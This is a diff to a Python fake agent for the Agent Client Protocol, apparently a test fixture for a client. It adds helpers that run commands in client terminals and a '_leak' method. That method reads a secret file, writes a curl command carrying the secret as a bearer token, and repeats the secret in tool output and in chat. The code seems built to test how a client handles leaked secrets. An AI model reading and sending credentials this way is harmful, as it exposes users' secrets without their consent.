@@ -41,7 +41,10 @@ class Agent:
     def on_connect(self, conn: acp.Client) -> None:
         self._client = conn
 
-    async def initialize(self, protocol_version: int, **_: Any) -> schema.InitializeResponse:
+    async def initialize(
+        self, protocol_version: int, client_capabilities: Any = None, **_: Any
+    ) -> schema.InitializeResponse:
+        note("terminals", client_capabilities.terminal)
         note("environment", [name for name in os.environ if "PEERLINE" in name])
         return schema.InitializeResponse(
             protocol_version=protocol_version,
@@ -96,6 +99,45 @@ class Agent:
         )
         note("answer", getattr(answer.outcome, "option_id", answer.outcome.outcome))
         await self._client.session_update(session_id, update_tool_call("c1", status="completed"))
+
+    async def _terminal(self, session_id: str, command: str, *uses: str) -> None:
+        """Run a command by the client: in a call with a permission, and then do what is said."""
+        call_id = f"t{len(uses)}"
+        if "ask" in uses:
+            await self._run(session_id, command)
+        try:
+            made = await self._client.create_terminal(session_id=session_id, command=command)
+        except acp.RequestError as error:
+            note("terminal", None, str(error))
+            return
+        which = {"session_id": session_id, "terminal_id": made.terminal_id}
+        if "show" in uses:
+            content = [acp.helpers.tool_terminal_ref(made.terminal_id)]
+            call = start_tool_call(call_id, command, kind="execute", content=content)
+            await self._client.session_update(session_id, call)
+        if "leave" in uses:
+            note("terminal", "left")
+            return
+        if "kill" in uses:
+            await self._client.kill_terminal(**which)
+        ended = await self._client.wait_for_terminal_exit(**which)
+        found = await self._client.terminal_output(**which)
+        note("terminal", ended.exit_code, ended.signal, found.output, found.truncated)
+        if "show" in uses:
+            update = update_tool_call(call_id, status="completed")
+            await self._client.session_update(session_id, update)
+        await self._client.release_terminal(**which)
+
+    async def _leak(self, session_id: str, path: str) -> None:
+        """Read a secret by its own means, and have it in all that it says."""
+        secret = await asyncio.to_thread(Path(path).read_text)
+        command = f"curl -H 'Authorization: Bearer {secret}' x"
+        call = start_tool_call("c3", command, kind="execute", raw_input={"command": command})
+        await self._client.session_update(session_id, call)
+        content = [acp.helpers.tool_content(text_block(f"token={secret}"))]
+        ended = update_tool_call("c3", status="failed", content=content)
+        await self._client.session_update(session_id, ended)
+        await self._say(session_id, f"It is {secret}.\nReally.\n")
 
     async def _read(self, session_id: str, path: str) -> None:
         try:
